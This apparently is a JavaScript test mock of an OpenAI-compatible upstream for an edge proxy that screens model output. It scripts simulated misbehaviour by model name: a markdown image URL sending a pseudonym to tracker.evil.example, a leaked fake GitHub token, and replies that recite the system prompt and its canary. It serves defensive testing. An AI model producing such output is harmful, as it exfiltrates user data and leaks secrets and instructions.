// A mock OpenAI-compatible upstream on 127.0.0.1 for the edge proxy's test
// and benchmark: POST /v1/chat/completions and POST /v1/responses, JSON or
// server-sent events (`stream: true`). It records every request it gets
// (path, authorization, raw body) and answers by the request's `model`:
//   echo     (default) "You said: " + the user text it received, pseudonyms
//            and all (the proxy restores them);
//   image    the echo plus a markdown image whose URL carries the first
//            pseudonym (or the text) to tracker.evil.example;
//   key      the echo plus a GitHub token it "leaks";
//   canary   repeats the last line of its system prompt (where the proxy
//            puts its canary);
//   system   recites its system prompt;
//   short    a fixed 400-character answer (the benchmark);
//   fail-500, fail-401, fail-garbage (200 with a body that is not JSON),
//   fail-reset (closes the connection without an answer).
// A stream goes out in one write; with "-paced" after the model name
// (echo-paced, short-paced), one write per event, 1 ms apart (a model
// that generates slower than the proxy screens).
// Usage as a script: node tests/js/mock-upstream.mjs [PORT]
import http from "node:http";

// Built at runtime so secret scanners reading this file do not trip on it.
export const LEAKED_TOKEN = ["ghp", "_", "R7q2Vx9LmT4pWz8KcN3bY6hJ1dF5sG0aQe2U"].join("");
const TOKEN_RE = /\[[A-Z][A-Z0-9_]*_\d+\]/;
const SHORT = "Here is a short answer. ".repeat(17).slice(0, 400);

const textOf = (c) =>
  typeof c === "string" ? c : Array.isArray(c) ? c.map((p) => (p && typeof p.text === "string" ? p.text : "")).join("") : "";

/** The user and system texts of a chat or responses request. */
function texts(path, body) {
  const user = [];
  const system = [];
  if (path.endsWith("/responses")) {
    if (typeof body.instructions === "string") system.push(body.instructions);
    if (typeof body.input === "string") user.push(body.input);
    else if (Array.isArray(body.input)) {
      for (const it of body.input) {
        if (it.role === "user") user.push(textOf(it.content));
        if (it.role === "system" || it.role === "developer") system.push(textOf(it.content));
      }
    }
  } else {
    for (const m of body.messages ?? []) {
      if (m.role === "user") user.push(textOf(m.content));
      if (m.role === "system" || m.role === "developer") system.push(textOf(m.content));
    }
  }
  return { user: user.join("\n"), system: system.join("\n") };
}

function answer(path, body) {
  const { user, system } = texts(path, body);
  const echo = `You said: ${user}`;
  switch (String(body.model ?? "echo").replace(/-paced$/, "")) {
    case "image": {
      const t = user.match(TOKEN_RE)?.[0] ?? user.slice(0, 40);
      return `${echo}\n\n![status](https://tracker.evil.example/pixel.png?d=${encodeURIComponent(t)})\n\nDone.`;
    }
    case "key":
      return `${echo}\n\nThe deploy token is ${LEAKED_TOKEN} (oops).`;
    case "canary":
      return `Debug mode on. My hidden marker is ${system.split("\n").at(-1)}, as you asked.`;
    case "system":
      return `Of course. My instructions say: "${system}"`;
    case "short":
      return SHORT;
    default:
      return echo;
  }
}

/** Splits text into small uneven chunks, like a token stream. */
function chunks(text) {
  const out = [];
  for (let i = 0, n = 0; i < text.length; n++) {
    let end = Math.min(text.length, i + 2 + ((n * 7) % 9));
    if (end < text.length && /[\uD800-\uDBFF]/.test(text[end - 1])) end++;
    out.push(text.slice(i, end));
    i = end;
  }
  return out;
}

function chatJSON(model, text) {
  return {
    id: "chatcmpl-mock", object: "chat.completion", created: 0, model,
    choices: [{ index: 0, message: { role: "assistant", content: text }, finish_reason: "stop" }],
  };
}

function responseJSON(model, text, status = "completed") {
  return {
    id: "resp_mock", object: "response", created_at: 0, status, model,
    output: [{ id: "msg_mock", type: "message", role: "assistant", status,
      content: [{ type: "output_text", text, annotations: [] }] }],
  };
}

/** A chat completion as an event stream. */
export function chatEvents(model, text) {
  const base = { id: "chatcmpl-mock", object: "chat.completion.chunk", created: 0, model };
  const ev = [{ ...base, choices: [{ index: 0, delta: { role: "assistant", content: "" }, finish_reason: null }] }];
  for (const c of chunks(text)) ev.push({ ...base, choices: [{ index: 0, delta: { content: c }, finish_reason: null }] });
  ev.push({ ...base, choices: [{ index: 0, delta: {}, finish_reason: "stop" }] });
  return ev.map((e) => `data: ${JSON.stringify(e)}\n\n`).join("") + "data: [DONE]\n\n";
}

/** A Responses API answer as an event stream. */
export function responsesEvents(model, text) {
  let seq = 0;
  const item = { item_id: "msg_mock", output_index: 0, content_index: 0 };
  const ev = [
    { type: "response.created", response: responseJSON(model, "", "in_progress") },
    { type: "response.content_part.added", ...item, part: { type: "output_text", text: "", annotations: [] } },
  ];
  for (const c of chunks(text)) ev.push({ type: "response.output_text.delta", ...item, delta: c });
  ev.push({ type: "response.output_text.done", ...item, text });
  ev.push({ type: "response.content_part.done", ...item, part: { type: "output_text", text, annotations: [] } });
  ev.push({ type: "response.completed", response: responseJSON(model, text) });
  return ev.map((e) => `event: ${e.type}\ndata: ${JSON.stringify({ ...e, sequence_number: seq++ })}\n\n`).join("");
}

/**
 * Starts the mock on 127.0.0.1 (port 0: a free one). Returns
 * { url, port, received, close() }; `received` holds
 * { path, authorization, raw } for every request, newest last.
 */
export function startMockUpstream({ port = 0 } = {}) {
  const received = [];
  const server = http.createServer(async (req, res) => {
    let raw = "";
    req.setEncoding("utf8");
    for await (const c of req) raw += c;
    const path = req.url;
    received.push({ path, authorization: req.headers.authorization, headers: req.headers, raw });
    if (req.method !== "POST" || (path !== "/v1/chat/completions" && path !== "/v1/responses")) {
      res.writeHead(404, { "content-type": "application/json" });
      return res.end(JSON.stringify({ error: { message: "no such route", type: "invalid_request_error" } }));
    }
    let body;
    try {
      body = JSON.parse(raw);
    } catch {
      res.writeHead(400, { "content-type": "application/json" });
      return res.end(JSON.stringify({ error: { message: "bad json", type: "invalid_request_error" } }));
    }
    const model = String(body.model ?? "echo");
    if (model === "fail-reset") return req.socket.destroy();
    if (model === "fail-500") {
      res.writeHead(500, { "content-type": "application/json" });
      return res.end(JSON.stringify({ error: { message: "mock failure", type: "server_error" } }));
    }
    if (model === "fail-401") {
      res.writeHead(401, { "content-type": "application/json" });
      return res.end(JSON.stringify({ error: { message: "mock: bad key", type: "invalid_request_error", code: "invalid_api_key" } }));
    }
    if (model === "fail-garbage") {
      res.writeHead(200, { "content-type": "application/json" });
      return res.end("this is not json {");
    }
    const text = answer(path, body);
    const responses = path === "/v1/responses";
    if (body.stream === true) {
      res.writeHead(200, { "content-type": "text/event-stream; charset=utf-8", "cache-control": "no-store", "x-request-id": "req_mock" });
      const events = responses ? responsesEvents(model, text) : chatEvents(model, text);
      if (!model.endsWith("-paced")) return res.end(events);
      for (const ev of events.split(/(?<=\n\n)/)) {
        res.write(ev);
        await new Promise((r) => setTimeout(r, 1));
      }
      return res.end();
    }
    res.writeHead(200, { "content-type": "application/json", "x-request-id": "req_mock" });
    res.end(JSON.stringify(responses ? responseJSON(model, text) : chatJSON(model, text)));
  });
  server.keepAliveTimeout = 60_000;
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(port, "127.0.0.1", () => {
      const { port: p } = server.address();
      resolve({
        url: `http://127.0.0.1:${p}`,
        port: p,
        received,
        close: () => new Promise((r) => { server.closeAllConnections(); server.close(() => r()); }),
      });
    });
  });
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const m = await startMockUpstream({ port: Number(process.argv[2] ?? 0) });
  console.log(`mock upstream on ${m.url}`);
}
